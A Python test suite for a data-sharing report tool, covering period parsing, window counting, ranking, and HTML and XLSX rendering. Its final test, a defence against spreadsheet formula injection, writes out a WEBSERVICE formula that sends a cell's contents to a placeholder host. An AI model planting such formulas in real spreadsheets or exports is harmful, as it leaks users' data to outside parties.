"""The report's periods, ranking and renderers: HTML self-contained and stable, XLSX with the same tables."""

from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import io
import re
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from confluent_kafka import TopicPartition
from openpyxl import load_workbook

from sharebus_cli.main import main as cli
from sharebus_core.catalogue import load_catalogue
from sharebus_core.catalogue.models import Period, UpdateMode, UpdatePolicy
from sharebus_report import BadPeriod, parse_period, render_html, render_xlsx
from sharebus_report.model import DEPARTMENT_COLUMNS, DepartmentRow, Report
from sharebus_report.ranking import rank
from sharebus_report.sources import starts_at_log_start
from sharebus_report.windows import assess_windows
from tests.unit.fixtures import FIXTURE_CATALOGUE
from tests.unit.test_report_tally import make_report

CST = ZoneInfo("Asia/Shanghai")


@pytest.fixture(scope="module")
def report() -> Report:
    return make_report(load_catalogue(FIXTURE_CATALOGUE))


@pytest.mark.parametrize(
    ("text", "start", "end"),
    [
        ("2026-Q4", dt.datetime(2026, 10, 1, tzinfo=CST), dt.datetime(2027, 1, 1, tzinfo=CST)),
        ("2026-q1", dt.datetime(2026, 1, 1, tzinfo=CST), dt.datetime(2026, 4, 1, tzinfo=CST)),
        ("2026-11", dt.datetime(2026, 11, 1, tzinfo=CST), dt.datetime(2026, 12, 1, tzinfo=CST)),
        ("2026-12", dt.datetime(2026, 12, 1, tzinfo=CST), dt.datetime(2027, 1, 1, tzinfo=CST)),
        ("2026", dt.datetime(2026, 1, 1, tzinfo=CST), dt.datetime(2027, 1, 1, tzinfo=CST)),
    ],
)
def test_periods_are_local_quarters_months_and_years(text: str, start: dt.datetime, end: dt.datetime) -> None:
    period = parse_period(text)
    assert (period.start, period.end) == (start, end)
    assert period.start.utcoffset() == dt.timedelta(hours=8)
    assert dt.datetime(2026, 11, 30, 16, 0, tzinfo=dt.UTC) not in parse_period("2026-11")  # 1 December, 00:00 CST


@pytest.mark.parametrize("text", ["2026-Q5", "2026-13", "26", "2026-11-01", "Q4", ""])
def test_a_bad_period_is_refused_with_the_forms_it_takes(text: str) -> None:
    with pytest.raises(BadPeriod, match="2026-Q4"):
        parse_period(text)


@pytest.mark.parametrize("text", ["9999", "9999-Q4", "9999-12", "0000", "0000-01", "0000-Q1"])
def test_a_period_outside_the_years_dates_can_hold_is_refused_not_an_error(text: str) -> None:
    with pytest.raises(BadPeriod, match="out of range"):
        parse_period(text)
    assert parse_period("9999-11").end.year == 9999


@pytest.mark.parametrize("text", ["\u0662\u0660\u0662\u0666", "\uff12\uff10\uff12\uff16-Q1", "2026-\u0661\u0661"])
def test_a_period_in_digits_other_than_ascii_is_refused(text: str) -> None:
    # Its label names the downloaded report file, in a header that carries Latin-1 only.
    with pytest.raises(BadPeriod, match="2026-Q4"):
        parse_period(text)


def test_windows_end_in_their_period_and_wait_for_their_grace() -> None:
    monthly = UpdatePolicy(mode=UpdateMode.PERIODIC, period=Period.MONTHLY, release_at=dt.time(0, 0))
    year = parse_period("2026")
    ends = {dt.datetime(2026, 3, 1, tzinfo=CST).timestamp()}
    # 12 windows end in 2026: 1 February ... 1 January 2027 (the window of December ends with the year).
    counts = assess_windows(monthly, year, dt.datetime(2027, 1, 1, 1, tzinfo=CST), dt.timedelta(hours=1), ends)
    assert (counts.on_time, counts.overdue, counts.pending) == (1, 11, 0)
    counts = assess_windows(monthly, year, dt.datetime(2027, 1, 1, 0, 30, tzinfo=CST), dt.timedelta(hours=1), ends)
    assert (counts.on_time, counts.overdue, counts.pending) == (1, 10, 1)


def test_windows_that_ended_before_the_bus_began_are_not_counted() -> None:
    monthly = UpdatePolicy(mode=UpdateMode.PERIODIC, period=Period.MONTHLY, release_at=dt.time(0, 0))
    year = parse_period("2026")
    began = dt.datetime(2026, 10, 15, 9, 30, tzinfo=CST)  # a bus started mid-October
    as_of = dt.datetime(2027, 1, 1, 1, tzinfo=CST)
    counts = assess_windows(monthly, year, as_of, dt.timedelta(hours=1), set(), bus_began=began)
    # Only the windows ending 1 November, 1 December and 1 January 2027 were the bus's to miss.
    assert (counts.on_time, counts.overdue, counts.pending) == (0, 3, 0)
    # A window ending at the very instant the bus began was not its either.
    at_an_end = dt.datetime(2026, 11, 1, tzinfo=CST)
    counts = assess_windows(monthly, year, as_of, dt.timedelta(hours=1), set(), bus_began=at_an_end)
    assert (counts.on_time, counts.overdue, counts.pending) == (0, 2, 0)
    # A window released on time counts even when its release is the trail's first event (held records
    # are audited only then): the bus held them before.
    released = {dt.datetime(2026, 11, 1, tzinfo=CST).timestamp()}
    counts = assess_windows(monthly, year, as_of, dt.timedelta(hours=1), released, bus_began=at_an_end)
    assert (counts.on_time, counts.overdue, counts.pending) == (1, 2, 0)


def test_a_topic_is_read_from_its_start_only_when_every_non_empty_partition_begins_where_reading_does() -> None:
    # Partition 0: records 0-9, reading starts at 0; partition 1: empty; partition 2: records 0-4, starts at 3.
    watermarks = {0: (0, 10), 1: (0, 0), 2: (0, 5)}
    found = [TopicPartition("audit", 0, 0), TopicPartition("audit", 1, -1), TopicPartition("audit", 2, 3)]
    assert not starts_at_log_start(found, watermarks)
    found[2] = TopicPartition("audit", 2, 0)
    assert starts_at_log_start(found, watermarks)
    # Nothing at or after the time in a non-empty partition: its records are all older.
    found[0] = TopicPartition("audit", 0, -1)
    assert not starts_at_log_start(found, watermarks)


def _row(code: str, promised: int, published: int) -> DepartmentRow:
    ints = {f.name: 0 for f in dataclasses.fields(DepartmentRow) if f.type == "int"}
    row = DepartmentRow(code=code, name=code, name_zh=None, completeness=None, validity=None, **ints)
    return dataclasses.replace(row, classes_promised=promised, classes_published=published)


def test_ranking_shares_ties_and_leaves_consumers_unranked() -> None:
    rows = rank([_row("B", 4, 2), _row("C", 0, 0), _row("A", 2, 1), _row("D", 1, 1)])
    assert [(r.code, r.score, r.rank) for r in rows] == [
        ("D", 100.0, 1),
        ("A", 50.0, 2),
        ("B", 50.0, 2),
        ("C", None, None),
    ]


def _chart_uris(page: str) -> list[str]:
    return re.findall(r'<img class="chart" src="(data:image/svg\+xml;base64,[A-Za-z0-9+/=]+)"', page)


def test_the_html_is_self_contained_has_its_charts_and_renders_the_same_twice(report: Report) -> None:
    page = render_html(report)
    assert page == render_html(report)
    assert not re.search(r"(src|href)=\"(?!data:|#)", page), "nothing may be loaded from outside the page"
    assert "http" not in page
    uris = _chart_uris(page)
    assert len(uris) == 5
    for uri in uris:
        svg = base64.b64decode(uri.split(",", 1)[1]).decode()
        assert "<svg" in svg
        assert "<dc:date>" not in svg
    assert '<tr data-class="301001003/000001" class="missing">' in page
    amr = re.search(r'<tr data-department="AMR">(.*?)</tr>', page)
    assert amr is not None
    assert '<td class="int" data-key="rank">1</td>' in amr.group(1)
    assert '<td class="ratio" data-key="completeness">95.0%</td>' in amr.group(1)
    assert '<td class="int" data-key="windows_overdue">748</td>' in amr.group(1)


def test_the_workbook_has_the_same_tables_as_numbers(report: Report) -> None:
    data = render_xlsx(report)
    assert data == render_xlsx(report)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Departments", "Classes", "About"]
    sheet = book["Departments"]
    headings = [c.value for c in sheet[1]]
    assert headings == [c.heading for c in DEPARTMENT_COLUMNS]
    amr = {h: c.value for h, c in zip(headings, sheet[2], strict=True)}
    assert amr["Department"] == "AMR"
    assert amr["Rank"] == 1
    assert amr["Records provided"] == 10
    assert amr["Windows overdue"] == 748
    assert amr["Completeness"] == pytest.approx(0.95)
    assert sheet.cell(row=2, column=headings.index("Completeness") + 1).number_format == "0.0%"
    assert amr["Score"] == pytest.approx(report.department("AMR").score)
    consumers = {row[1].value: row for row in sheet.iter_rows(min_row=3)}
    assert set(consumers) == {"TAX", "PSB", "HRSS"}
    assert consumers["TAX"][headings.index("Score")].value is None
    classes = {row[0].value: row for row in book["Classes"].iter_rows(min_row=2)}
    assert classes["301001003/000001"][5].value == "NO"
    assert classes["301001001/000001"][6].value == 4
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    assert about["Period"] == "2026-11"
    assert about["Complete"] == "yes"


def test_the_workbook_is_dated_by_the_report_not_by_the_clock(report: Report) -> None:
    # openpyxl's save() stamps ``modified`` with the time of writing: two renders a second apart differed.
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    stamp = report.as_of.astimezone(dt.UTC).replace(tzinfo=None)
    assert book.properties.modified == stamp
    assert book.properties.created == stamp


def test_the_command_refuses_a_bad_period_before_reading_anything(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SHAREBUS_CATALOGUE_DIR", str(FIXTURE_CATALOGUE))
    monkeypatch.setenv("SHAREBUS_BOOTSTRAP", "127.0.0.1:1")  # nothing listens: it must not get that far
    assert cli(["report", "--period", "2026-13"]) == 2
    assert "no month 13" in capsys.readouterr().err


def test_the_command_refuses_an_output_directory_it_cannot_write_before_reading_anything(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.setenv("SHAREBUS_CATALOGUE_DIR", str(FIXTURE_CATALOGUE))
    monkeypatch.setenv("SHAREBUS_BOOTSTRAP", "127.0.0.1:1")  # nothing listens: it must not get that far
    taken = tmp_path / "reports"
    taken.write_text("a file, not a directory")
    assert cli(["report", "--period", "2026-11", "--out", str(taken)]) == 2
    assert f"cannot write the report into {taken}" in capsys.readouterr().err


def test_a_name_that_looks_like_a_formula_is_written_as_text_not_run(report: Report) -> None:
    # Names come from catalogues, a district's among them: a formula there would run in the bureau's
    # spreadsheet, and could send the report's figures anywhere (WEBSERVICE, HYPERLINK).
    formula = '=WEBSERVICE("https://example.invalid/?d="&Departments!D2)'
    renamed = dataclasses.replace(
        report,
        departments=tuple(dataclasses.replace(row, name=formula) for row in report.departments),
        classes=tuple(dataclasses.replace(row, name="@SUM(1)", provider="+AMR") for row in report.classes),
    )
    book = load_workbook(io.BytesIO(render_xlsx(renamed)))
    sheet = book["Departments"]
    headings = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=headings.index("Name") + 1)
    assert (name.value, name.data_type) == (formula, "s")
    for row in book["Classes"].iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)
    assert not any(c.data_type == "f" for sheet in book for row in sheet.iter_rows() for c in row)
